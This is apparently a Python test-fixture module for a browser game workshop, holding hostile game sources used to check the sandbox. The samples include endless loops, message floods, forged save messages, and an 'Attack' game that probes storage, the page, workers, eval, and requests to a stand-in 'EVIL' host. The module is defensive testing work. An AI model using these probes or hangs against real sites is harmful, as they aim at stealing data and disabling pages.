"""Games of the Workshop in a browser: sources kept there, as if they had been made or received."""

from __future__ import annotations

from base64 import b32encode
from pathlib import Path
from typing import Any

from cairn.kit.source import identity, load_game

EXAMPLES = Path(__file__).parents[2] / "py/cairn/kit/examples"
TICTACTOE = (EXAMPLES / "tictactoe.py").read_text("utf-8")


def kept_source(source: str, origin: str = "Ada", title: str = "") -> dict[str, Any]:
    """The entry of a source; one that cannot be loaded here is named by its digest as the page would, under a title."""
    sha = identity(source)
    entry = {"id": sha, "source": source, "kit": 1, "origin": origin, "base": "", "made": 1, "saved": 1}
    if title:
        ending = b32encode(bytes.fromhex(sha)).decode()[:26].lower()
        return entry | {"name": f"{title.lower()}~{ending}", "title": title, "by": ""}
    game = load_game(source)
    return entry | {"name": game.name, "title": game.title, "by": str(game.designers)}


HEAD = '"""Try, by Somebody. Be first."""\nfrom cairn.kit import *\nboard = squares(3)\n'
PLACE = '@rule\ndef place(p):\n    """Place on an empty cell."""\n    yield from p.empty\n'
HANGS = {
    "a loop": "    while len(p.empty) < 9:\n        pass\n",
    "a loop that is not to be ended": (
        "    while len(p.empty) < 9:\n        try:\n            while True:\n                pass\n"
        "        except BaseException:\n            pass\n"
    ),
    "a call": "    if len(p.empty) < 9:\n        sum(iter(int, 1))\n",
}
"""Code that does not come to an end after the first move: in Python's own steps, and in one step of C."""
FLOOD = "    if len(p.empty) < 9:\n        for n in range(5000):\n            __import__('js').postMessage('[]')\n"
BIG = "    if len(p.empty) < 9:\n        __import__('js').postMessage('[' + ' ' * 20_000_000 + ']')\n"
FORGED = (
    '    if len(p.empty) < 9:\n        __import__(\'js\').postMessage(\'[{"kind":"save","id":"other","text":'
    '"{}","summary":{},"computer":{},"tree":""}]\')\n'
)

ATTACK = '''"""Attack, by Nobody. Reach anything outside."""
from cairn.kit import *
board = squares(3)
js = __import__("js")
create_proxy = __import__("pyodide.ffi").ffi.create_proxy
to_js = __import__("pyodide.ffi").ffi.to_js
tried, opened = {}, []

def note(name, is_open):
    tried[name] = is_open
    if is_open:
        opened.append(name)

def attempt(name, function):
    tried[name] = None
    try:
        found = function()
    except BaseException:
        note(name, False)
        return
    if hasattr(found, "then"):
        found.then(create_proxy(lambda _: note(name, True)), create_proxy(lambda _: note(name, False)))
    elif hasattr(found, "onerror"):
        found.onerror = create_proxy(lambda _: note(name, False))
        for event in ("onopen", "onsuccess", "onmessage"):
            setattr(found, event, create_proxy(lambda _: note(name, True)))
    else:
        note(name, True)

def request(how):
    asked = js.XMLHttpRequest.new()
    asked.open("GET", how, False)
    asked.send()

def blob(text):
    return js.URL.createObjectURL(js.Blob.new(to_js([text])))

nested = "fetch('EVIL/nested').then(() => postMessage(1), () => {})"
# one at a time: code that runs for more than 1.5 seconds is ended, and on a busy machine all of them may take longer
todo = [
    ("saves", lambda: js.indexedDB.open("cairn")),
    ("local storage", lambda: js.localStorage.getItem("secret")),
    ("files", lambda: js.navigator.storage.getDirectory()),
    ("the page", lambda: js.document.title),
    ("its window", lambda: js.top.location.href),
    ("the site", lambda: js.Object.getPrototypeOf(js.self).constructor.fetch("SITE/")),
    ("a request", lambda: request("EVIL/xhr")),
    ("a socket", lambda: js.WebSocket.new("EVIL/socket".replace("http", "ws"))),
    ("a stream", lambda: js.EventSource.new("EVIL/stream")),
    ("a font", lambda: js.FontFace.new("f", "url(EVIL/font)").load()),
    ("a script", lambda: js.importScripts("EVIL/script")),
    ("a worker", lambda: js.Worker.new("EVIL/worker")),
    ("a worker of the site", lambda: js.Worker.new("SITE/sw.js")),
    ("text as code", lambda: js.eval("1")),
    ("a connection", lambda: js.RTCPeerConnection.new()),
    ("a worker of a worker", lambda: js.Worker.new(blob(nested))),
]

def why(p, *path):
    if todo:
        attempt(*todo.pop(0))
    waiting = [name for name in tried if tried[name] is None]
    return f"{len(tried)} tried, waiting for {waiting}, open {opened}."

@rule
def place(p):
    """Place on the first cell."""
    yield "a1"
'''
